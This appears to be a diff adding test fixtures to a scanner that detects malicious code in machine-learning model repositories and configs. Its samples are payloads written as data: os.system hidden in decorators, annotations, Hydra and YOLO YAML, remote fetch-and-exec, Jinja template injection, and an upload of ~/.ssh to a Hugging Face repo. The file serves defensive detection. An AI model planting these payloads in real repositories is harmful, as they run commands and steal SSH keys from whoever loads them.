@@ -51,6 +51,16 @@ STATEMENTS = {
     ),
     "operator-library": f"import torch\ntorch.ops.load_library('./acme.so'){MARK}\n",
     "reversed": f"import os\ngetattr(os, 'metsys'[::-1])('echo weighbridge-eval'){MARK}\n",
+    "decorator": (
+        f"import os\n@os.system{MARK}\n@(lambda cls: 'echo weighbridge-eval')\nclass Model:\n    pass\n"
+    ),
+    "annotation": (
+        f"import os\ndef load(path: os.system('echo weighbridge-eval')):{MARK}\n    pass\n"
+    ),
+    "hub-upload": (
+        "import os\nfrom huggingface_hub import HfApi\nHfApi().upload_folder("
+        f"repo_id='acme/x', folder_path=os.path.expanduser('~/.ssh')){MARK}\n"
+    ),
     "marshal": f"import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x'))){MARK}\n",
     "lambda": f"import base64\n(lambda s: exec(base64.b64decode(s)))('{_CODE}'){MARK}\n",
     "fetch-exec": f"import requests\nexec(requests.get('{URL}').text){MARK}\n",
@@ -230,6 +240,16 @@ def _configurations() -> Iterator[Repository]:
         kind,
         {"model_index.json": index.replace("subprocess", "subprocess" + MARK)},
     )
+    alias = f"x: &x os.system{MARK}\ny:\n  _target_: *x\n  command: echo\n"
+    yield Repository("hydra-alias", kind, {"c.yaml": alias})
+    called = f"model:\n  target: os.system{MARK}\n  params: {{command: echo}}\n"
+    yield Repository("target-with-params", kind, {"c.yaml": called})
+    layers = "backbone:\n  - [-1, 1, Conv, [64]]\n"
+    evaluated = f"activation: __import__('os').system('echo'){MARK}\n" + layers
+    yield Repository("yolo-activation", kind, {"yolo.yaml": evaluated})
+    fetched = "train: a\nnames: [b]\ndownload: |\n  import requests\n"
+    fetched += f"  exec(requests.get('{URL}').text){MARK}\n"
+    yield Repository("yolo-download", kind, {"data.yaml": fetched})
     template = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
     chat = {"chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}" + template}
     yield Repository("chat-template", kind, {"tokenizer_config.json": json.dumps(chat) + MARK})
